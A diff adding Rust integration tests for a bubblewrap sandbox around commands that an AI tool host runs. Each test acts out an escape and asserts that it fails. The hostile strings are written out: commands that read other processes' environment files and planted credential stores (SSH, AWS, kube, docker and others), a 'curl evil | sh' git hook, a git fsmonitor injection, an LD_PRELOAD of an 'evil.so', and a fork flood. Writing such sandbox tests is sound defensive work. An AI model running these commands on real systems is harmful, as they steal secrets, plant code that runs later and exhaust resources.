@@ -1,0 +1,651 @@
+//! The process jail (bubblewrap) around every program a tool starts: what a
+//! command can no longer do, each as an attempt a hostile command (or a
+//! careless one) makes, asserting the refusal and that nothing changed.
+//!
+//! These tests need the jail: `scripts/setup` installs bubblewrap. Processes
+//! are found by a marker argument (a `sleep` duration no other process uses),
+//! which holds in any PID namespace.
+
+use crate::support::*;
+use serde_json::{Value, json};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+use toolhost::{AssistantMessage, CancellationToken, Host, NoEvents, ProcessLimits};
+
+/// Fail, saying how to get the jail, where it cannot run.
+#[track_caller]
+fn require_jail() {
+    if let toolhost::ops::process::jail::Support::Unavailable { reason } =
+        toolhost::ops::process::jail::support()
+    {
+        panic!("the process jail cannot run here ({reason}); scripts/setup installs bubblewrap");
+    }
+}
+
+/// A jailed host on `ws` (the jail is required: no silent fallback).
+fn jailed(ws: &Workspace) -> Host {
+    require_jail();
+    block(builder(ws).require_jail(true).build()).expect("building the host")
+}
+
+fn bash(host: &Host, command: &str) -> toolhost::ToolResultMessage {
+    call(host, "bash", json!({ "command": command }))
+}
+
+/// A directory outside every workspace that the jail still shows (the
+/// system, read-only): the build's own temporary directory, not `/tmp`,
+/// which the jail empties.
+fn visible_dir() -> tempfile::TempDir {
+    tempfile::Builder::new()
+        .prefix("jail-")
+        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+        .unwrap()
+}
+
+/// The compile cache the tests share (a fake `$HOME` would start an empty
+/// one, and compile every built-in again).
+fn shared_cache() -> String {
+    toolhost::engine::default_cache_dir()
+        .expect("a cache directory")
+        .display()
+        .to_string()
+}
+
+/// Every way a command leaves processes behind, each running `sleep {m}`.
+fn escapes(m: &str) -> String {
+    format!(
+        "setsid -f sleep {m}; (sleep {m} &); nohup sleep {m} >/dev/null 2>&1 & \
+         setsid sh -c 'sleep {m} & exit' & sleep 0.1"
+    )
+}
+
+#[test]
+fn jail_nothing_a_call_started_outlives_it_however_the_call_ends() {
+    let ws = Workspace::new();
+    let host = jailed(&ws);
+
+    let m = marker();
+    let r = bash(&host, &format!("{}; echo done", escapes(&m)));
+    assert_eq!((r.text(), r.is_error), ("done\n".to_string(), false));
+    assert!(all_gone(&m), "after a success");
+
+    let m = marker();
+    let r = bash(&host, &format!("{}; exit 3", escapes(&m)));
+    assert!(
+        r.text().ends_with("Command exited with code 3"),
+        "{}",
+        r.text()
+    );
+    assert!(all_gone(&m), "after an error");
+
+    let m = marker();
+    let r = call(
+        &host,
+        "bash",
+        json!({"command": format!("{}; sleep 100", escapes(&m)), "timeout": 1}),
+    );
+    assert!(
+        r.text().ends_with("Command timed out after 1 seconds"),
+        "{}",
+        r.text()
+    );
+    assert!(all_gone(&m), "after a timeout");
+
+    let m = marker();
+    let cancel = CancellationToken::new();
+    let message = AssistantMessage::from_calls(vec![tool_call(
+        "c1",
+        "bash",
+        json!({"command": format!("{}; sleep 100", escapes(&m))}),
+    )]);
+    let (batch, canceller) = (host.clone(), cancel.clone());
+    let watcher = std::thread::spawn({
+        let m = m.clone();
+        move || {
+            let start = Instant::now();
+            while live_with(&m) < 4 && start.elapsed() < Duration::from_secs(30) {
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            canceller.cancel();
+        }
+    });
+    let outcome = block(batch.run_batch(&message, cancel, Arc::new(NoEvents)));
+    watcher.join().unwrap();
+    assert!(outcome.results[0].text().ends_with("Command aborted"));
+    assert!(all_gone(&m), "after a cancel");
+}
+
+#[test]
+fn jail_a_host_killed_mid_command_leaves_nothing_behind() {
+    require_jail();
+    for signal in ["TERM", "KILL"] {
+        let ws = Workspace::new();
+        let m = marker();
+        let batch = json!({"role": "assistant", "content": [{"type": "toolCall", "id": "c1",
+            "name": "bash", "arguments": {"command": format!("{}; sleep 100", escapes(&m))}}]});
+        let mut cli = Command::new(toolhost_bin())
+            .args(["--workspace", ws.str(), "--require-jail", "run", "-"])
+            .env("XDG_CONFIG_HOME", ws.config_home())
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        use std::io::Write;
+        cli.stdin
+            .take()
+            .unwrap()
+            .write_all(batch.to_string().as_bytes())
+            .unwrap();
+        let start = Instant::now();
+        while live_with(&m) < 4 {
+            assert!(
+                start.elapsed() < Duration::from_secs(30),
+                "the command never started"
+            );
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        let status = Command::new("kill")
+            .args([&format!("-{signal}"), &cli.id().to_string()])
+            .status()
+            .unwrap();
+        assert!(status.success());
+        cli.wait().unwrap();
+        assert!(all_gone(&m), "SIG{signal}: a process outlived its host");
+    }
+}
+
+#[test]
+fn jail_no_child_can_read_the_hosts_environment_by_any_route() {
+    require_jail();
+    let ws = Workspace::new();
+    let secret = "th-host-secret-5f1d9";
+    let routes = "env; cat /proc/$PPID/environ; cat /proc/1/environ; \
+                  for p in /proc/[0-9]*; do cat $p/environ; done; \
+                  ps eww -e 2>/dev/null; cat /proc/self/environ; true";
+    let out = toolhost_with_env(
+        &ws,
+        &[
+            "--require-jail",
+            "call",
+            "bash",
+            &json!({ "command": routes }).to_string(),
+        ],
+        None,
+        &[("TOOLHOST_TEST_HOST_SECRET", secret)],
+    );
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("PATH="), "the routes ran: {stdout}");
+    assert!(
+        !stdout.contains(secret),
+        "the host's environment leaked: {stdout}"
+    );
+
+    // A program granted to an extension, the same routes.
+    std::fs::create_dir_all(ws.user_extensions()).unwrap();
+    std::fs::copy(
+        toolhost_tests::RUNPROBE,
+        ws.user_extensions().join("runprobe.wasm"),
+    )
+    .unwrap();
+    std::fs::write(
+        ws.user_config().join("toolhost.toml"),
+        "[extensions.runprobe]\nprocess = [\"sh\"]\nfs-read = [\".\"]\n",
+    )
+    .unwrap();
+    let args = json!({"program": "sh", "args": ["-c", routes]}).to_string();
+    let out = toolhost_with_env(
+        &ws,
+        &["--require-jail", "call", "run", &args],
+        None,
+        &[("TOOLHOST_TEST_HOST_SECRET", secret)],
+    );
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.starts_with("exit 0: "), "{stdout}");
+    assert!(
+        !stdout.contains(secret),
+        "the host's environment leaked: {stdout}"
+    );
+}
+
+#[test]
+fn jail_metadata_outside_the_write_roots_cannot_change() {
+    let ws = Workspace::new();
+    let host = jailed(&ws);
+    let outside = visible_dir();
+    let file = outside.path().join("f.txt");
+    std::fs::write(&file, "untouched\n").unwrap();
+    let before = std::fs::metadata(&file).unwrap();
+    let f = file.display();
+    for attempt in [
+        format!("chmod 777 {f}"),
+        format!("touch -d 2000-01-01 {f}"),
+        format!("truncate -s 0 {f}"),
+        format!("mv {f} {f}.moved"),
+        format!("chown 1:1 {f}"),
+        format!("ln {f} {f}.link"),
+    ] {
+        let r = bash(&host, &attempt);
+        assert!(r.is_error, "{attempt}: {}", r.text());
+        assert!(
+            r.text().contains("Read-only file system") || r.text().contains("Invalid argument"),
+            "{attempt}: {}",
+            r.text()
+        );
+    }
+    let after = std::fs::metadata(&file).unwrap();
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "untouched\n");
+    assert_eq!(after.permissions().mode(), before.permissions().mode());
+    assert_eq!(after.mtime(), before.mtime());
+    assert_eq!((after.uid(), after.gid()), (before.uid(), before.gid()));
+    let names: Vec<_> = std::fs::read_dir(outside.path())
+        .unwrap()
+        .flatten()
+        .collect();
+    assert_eq!(names.len(), 1, "nothing was created beside it");
+    // Inside the workspace the same changes are fine.
+    let r = bash(
+        &host,
+        "echo a > a && chmod 600 a && touch -d 2000-01-01 a && mv a b && echo ok",
+    );
+    assert_eq!(r.text(), "ok\n");
+}
+
+/// The secret stores toolhost hides (relative to `$HOME`), each planted in
+/// a fake home with a secret in it.
+const SECRET_STORES: &[&str] = &[
+    ".ssh/id_ed25519",
+    ".gnupg/private-keys-v1.d/key",
+    ".aws/credentials",
+    ".azure/accessTokens.json",
+    ".config/gcloud/credentials.db",
+    ".kube/config",
+    ".docker/config.json",
+    ".netrc",
+    ".git-credentials",
+    ".config/gh/hosts.yml",
+    ".npmrc",
+    ".pypirc",
+    ".cargo/credentials.toml",
+];
+
+#[test]
+fn jail_secret_stores_are_hidden_and_other_files_outside_stay_readable() {
+    require_jail();
+    let ws = Workspace::new();
+    let home = visible_dir();
+    for (i, store) in SECRET_STORES.iter().enumerate() {
+        let path = home.path().join(store);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, format!("SECRET-{i}\n")).unwrap();
+    }
+    std::fs::write(home.path().join("notes.txt"), "just notes\n").unwrap();
+    let reads: Vec<String> = SECRET_STORES
+        .iter()
+        .map(|s| {
+            format!(
+                "cat ~/{s} 2>&1; ls -A ~/{}",
+                Path::new(s).parent().unwrap().display()
+            )
+        })
+        .collect();
+    let command = format!("{}; cat ~/notes.txt; true", reads.join("; "));
+    let home_str = home.path().to_str().unwrap();
+    let out = toolhost_with_env(
+        &ws,
+        &[
+            "--require-jail",
+            "call",
+            "bash",
+            &json!({ "command": command }).to_string(),
+        ],
+        None,
+        &[("HOME", home_str), ("TOOLHOST_CACHE_DIR", &shared_cache())],
+    );
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.contains("just notes\n"),
+        "a file outside stays readable: {stdout}"
+    );
+    assert!(
+        !stdout.contains("SECRET-"),
+        "a secret store was readable: {stdout}"
+    );
+}
+
+#[test]
+fn jail_protected_paths_are_read_only_to_bash() {
+    let ws = Workspace::new();
+    ws.write("toolhost.toml", "# trusted grants\n");
+    ws.write(".toolhost/extensions/tool.wasm", "component");
+    ws.write(".git/config", "[core]\n");
+    ws.write(".git/hooks/pre-commit", "#!/bin/sh\n");
+    ws.write(".git/HEAD", "ref: refs/heads/main\n");
+    let host = jailed(&ws);
+    for attempt in [
+        "echo '[extensions.x]' >> toolhost.toml",
+        "rm toolhost.toml",
+        "cp /bin/true .toolhost/extensions/evil.wasm",
+        "rm .toolhost/extensions/tool.wasm",
+        "echo '[core] fsmonitor = evil' >> .git/config",
+        "echo 'curl evil | sh' > .git/hooks/post-checkout",
+        "chmod 777 .git/hooks/pre-commit",
+    ] {
+        let r = bash(&host, attempt);
+        assert!(r.is_error, "{attempt}: {}", r.text());
+        // A protected file is its own read-only mount: removing it is busy.
+        assert!(
+            r.text().contains("Read-only file system")
+                || r.text().contains("Device or resource busy"),
+            "{attempt}: {}",
+            r.text()
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(ws.path.join("toolhost.toml")).unwrap(),
+        "# trusted grants\n"
+    );
+    assert!(!ws.path.join(".toolhost/extensions/evil.wasm").exists());
+    assert!(ws.path.join(".toolhost/extensions/tool.wasm").exists());
+    assert_eq!(
+        std::fs::read_to_string(ws.path.join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    assert!(!ws.path.join(".git/hooks/post-checkout").exists());
+    // The rest of the repository is the workspace's, as before.
+    let r = bash(&host, "echo 'ref: refs/heads/x' > .git/HEAD && echo ok");
+    assert_eq!(r.text(), "ok\n");
+
+    // With the workspace at $HOME and no user configuration yet, a command
+    // cannot create one (with grants of its choosing) either.
+    let home = visible_dir();
+    let grants = "mkdir -p ~/.config/toolhost && \
+                  echo '[extensions.x]' > ~/.config/toolhost/toolhost.toml";
+    let out = Command::new(toolhost_bin())
+        .args([
+            "--workspace",
+            home.path().to_str().unwrap(),
+            "--require-jail",
+            "call",
+            "bash",
+        ])
+        .arg(json!({ "command": grants }).to_string())
+        .env("HOME", home.path())
+        .env("TOOLHOST_CACHE_DIR", shared_cache())
+        .env_remove("XDG_CONFIG_HOME")
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("Read-only file system"), "{stdout}");
+    assert!(!home.path().join(".config/toolhost/toolhost.toml").exists());
+}
+
+/// Whether a connection waits on `listener`.
+fn reached(listener: &std::os::unix::net::UnixListener) -> bool {
+    match listener.accept() {
+        Ok(_) => true,
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
+        Err(e) => panic!("accept: {e}"),
+    }
+}
+
+#[test]
+fn jail_unix_and_abstract_sockets_outside_are_never_reached() {
+    use std::os::linux::net::SocketAddrExt;
+    use std::os::unix::net::{SocketAddr, UnixListener};
+    require_jail();
+    // Where sessions keep their sockets: the system temp directory and /run
+    // (bus, container daemon, multiplexer), and the abstract namespace.
+    let tmp = tempfile::tempdir().unwrap();
+    let in_tmp = tmp.path().join("s.sock");
+    let run_dir = PathBuf::from(format!("/run/toolhost-test-{}", std::process::id()));
+    let in_run = std::fs::create_dir_all(&run_dir)
+        .ok()
+        .map(|()| run_dir.join("s.sock"));
+    let abstract_name = format!("toolhost-test-{}", std::process::id());
+    let mut listeners = vec![UnixListener::bind(&in_tmp).unwrap()];
+    if let Some(path) = &in_run {
+        listeners.push(UnixListener::bind(path).unwrap());
+    }
+    let addr = SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
+    listeners.push(UnixListener::bind_addr(&addr).unwrap());
+    for l in &listeners {
+        l.set_nonblocking(true).unwrap();
+    }
+    let mut targets = vec![format!("{}", in_tmp.display())];
+    targets.extend(in_run.iter().map(|p| p.display().to_string()));
+    targets.push(format!("\\0{abstract_name}"));
+    let script: Vec<String> = targets
+        .iter()
+        .map(|t| {
+            format!(
+                "python3 -c 'import socket,sys\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect(\"{t}\")\n print(\"REACHED\")\nexcept OSError as e:\n print(\"REFUSED:\", e)'"
+            )
+        })
+        .collect();
+    for network in [true, false] {
+        let ws = Workspace::new();
+        let host = block(
+            builder(&ws)
+                .require_jail(true)
+                .command_network(network)
+                .build(),
+        )
+        .unwrap();
+        let r = bash(&host, &script.join("; "));
+        assert!(
+            !r.text().contains("REACHED"),
+            "network {network}: {}",
+            r.text()
+        );
+        assert_eq!(
+            r.text().matches("REFUSED:").count(),
+            targets.len(),
+            "{}",
+            r.text()
+        );
+        for (l, t) in listeners.iter().zip(&targets) {
+            assert!(!reached(l), "network {network}: {t} was reached");
+        }
+    }
+    // The same connections from outside the jail go through: the test
+    // would see them.
+    let outside = std::os::unix::net::UnixStream::connect(&in_tmp);
+    assert!(outside.is_ok() && reached(&listeners[0]));
+    if in_run.is_some() {
+        let _ = std::fs::remove_dir_all(&run_dir);
+    }
+}
+
+#[test]
+fn jail_a_program_granted_to_an_extension_sees_only_its_grants_and_takes_no_ld_preload() {
+    require_jail();
+    let ws = Workspace::new();
+    ws.write("docs/a.txt", "granted\n");
+    ws.write("secret.txt", "not granted\n");
+    let probe = ws.path.join("runprobe.wasm");
+    std::fs::copy(toolhost_tests::RUNPROBE, &probe).unwrap();
+    let host = block(
+        granted(
+            &ws,
+            "[extensions.runprobe]\nprocess = [\"cat\", \"sh\"]\nfs-read = [\"docs\"]\n",
+        )
+        .extension(&probe)
+        .require_jail(true)
+        .build(),
+    )
+    .unwrap();
+    let cwd = format!("{}/docs", ws.str());
+    let run = |mut args: Value| {
+        args["cwd"] = json!(cwd);
+        call(&host, "run", args).text()
+    };
+    let docs = format!("{}/docs/a.txt", ws.str());
+    assert_eq!(
+        run(json!({"program": "cat", "args": [docs]})),
+        "exit 0: granted\n"
+    );
+    let secret = format!("{}/secret.txt", ws.str());
+    let refused = run(json!({"program": "cat", "args": [secret]}));
+    assert!(refused.contains("No such file or directory"), "{refused}");
+    // The system is there; the user's files are not.
+    let home = std::env::var("HOME").unwrap();
+    let looked = run(json!({"program": "sh", "args": ["-c", format!(
+        "cat /etc/hostname >/dev/null && echo system; \
+         ls -A {home} >/dev/null 2>&1 && echo home visible || echo home hidden"
+    )]}));
+    assert_eq!(looked, "exit 0: system\nhome hidden\n");
+    let preload = call(
+        &host,
+        "run",
+        json!({"program": "cat", "args": [docs], "cwd": cwd, "env": {"LD_PRELOAD": "/tmp/evil.so"}}),
+    );
+    assert!(preload.is_error);
+    assert_eq!(
+        preload.text(),
+        "LD_PRELOAD: a command may not set loader variables (LD_*)"
+    );
+}
+
+/// Whether this machine enforces limits with cgroups (which name the limit
+/// hit); elsewhere resource limits bound a command without telling.
+fn cgroups() -> bool {
+    !matches!(
+        toolhost::ops::process::limits::enforcement(),
+        toolhost::ops::process::limits::Enforcement::Rlimits { .. }
+    )
+}
+
+#[test]
+fn jail_a_command_starting_5000_sleeps_gets_at_most_its_limit() {
+    let ws = Workspace::new();
+    let host = jailed(&ws);
+    let m = marker();
+    // `sh` (not bash, which retries a failed fork for 15 s) gives up at the
+    // first fork refused; the count uses no fork of its own.
+    let command = format!(
+        "sh -c 'i=0; while [ $i -lt 5000 ]; do sleep {m} & i=$((i+1)); done' 2>/dev/null; \
+         n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo \"processes $n\""
+    );
+    let r = bash(&host, &command);
+    let counted: u32 = r
+        .text()
+        .lines()
+        .find_map(|l| l.strip_prefix("processes ")?.parse().ok())
+        .unwrap_or_else(|| panic!("no count: {}", r.text()));
+    let limit = ProcessLimits::default().max_processes;
+    assert!(counted <= limit, "{counted} processes, more than {limit}");
+    assert!(
+        counted > 100,
+        "the limit, not something else, stopped it: {counted}"
+    );
+    if cgroups() {
+        assert!(r.is_error);
+        assert!(
+            r.text()
+                .ends_with(&format!("Command exceeded its process limit of {limit}")),
+            "{}",
+            r.text()
+        );
+    } else {
+        eprintln!("NOTE: no cgroup here: the limit held, but the result cannot name it");
+    }
+    assert!(all_gone(&m), "the sleeps ended with the call");
+    assert_eq!(
+        bash(&host, "echo next").text(),
+        "next\n",
+        "the host serves the next call"
+    );
+}
+
+#[test]
+fn jail_a_command_allocating_past_its_memory_limit_ends_in_the_error() {
+    require_jail();
+    let ws = Workspace::new();
+    let limits = ProcessLimits {
+        memory_bytes: 256 << 20,
+        ..ProcessLimits::default()
+    };
+    let host = block(
+        builder(&ws)
+            .require_jail(true)
+            .command_limits(limits)
+            .build(),
+    )
+    .unwrap();
+    let r = bash(
+        &host,
+        "python3 -c 'x = bytearray(600 << 20); print(len(x))'; echo after",
+    );
+    assert!(r.is_error, "{}", r.text());
+    assert!(
+        !r.text().contains("629145600"),
+        "the allocation succeeded: {}",
+        r.text()
+    );
+    if cgroups() {
+        assert!(
+            r.text()
+                .ends_with("Command exceeded its memory limit of 256 MiB"),
+            "{}",
+            r.text()
+        );
+    } else {
+        assert!(r.text().contains("MemoryError"), "{}", r.text());
+    }
+    assert_eq!(bash(&host, "echo next").text(), "next\n");
+}
+
+#[test]
+fn full_output_files_are_capped_and_old_ones_removed_at_start() {
+    let ws = Workspace::new();
+    let temp = tempfile::tempdir().unwrap();
+    let old = temp.path().join("toolhost-bash-00000000000000aa.log");
+    let fresh = temp.path().join("toolhost-bash-00000000000000bb.log");
+    let other = temp.path().join("notes.log");
+    for f in [&old, &fresh, &other] {
+        std::fs::write(f, "x").unwrap();
+    }
+    let two_days_ago = std::time::SystemTime::now() - Duration::from_secs(2 * 24 * 3600);
+    for f in [&old, &other] {
+        std::fs::File::options()
+            .write(true)
+            .open(f)
+            .unwrap()
+            .set_modified(two_days_ago)
+            .unwrap();
+    }
+    let host = block(builder(&ws).temp_dir(temp.path()).build()).unwrap();
+    assert!(
+        !old.exists(),
+        "a full-output file older than a day is removed"
+    );
+    assert!(fresh.exists() && other.exists(), "nothing else is");
+
+    let r = bash(
+        &host,
+        "head -c 68000000 /dev/zero | tr '\\0' 'x' | fold -w 1000",
+    );
+    let path = r.details.as_ref().unwrap()["fullOutputPath"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        r.text()
+            .ends_with(&format!("Full output (first 64 MiB): {path}]")),
+        "{}",
+        &r.text()[r.text().len() - 200..]
+    );
+    let size = std::fs::metadata(&path).unwrap().len();
+    let note = "\n[toolhost: the output went on; this file keeps its first 64 MiB]\n";
+    assert_eq!(size, (64 << 20) + note.len() as u64);
+    let mut file = std::fs::File::open(&path).unwrap();
+    use std::io::{Read, Seek, SeekFrom};
+    file.seek(SeekFrom::End(-(note.len() as i64))).unwrap();
+    let mut end = String::new();
+    file.read_to_string(&mut end).unwrap();
+    assert_eq!(end, note);
+}
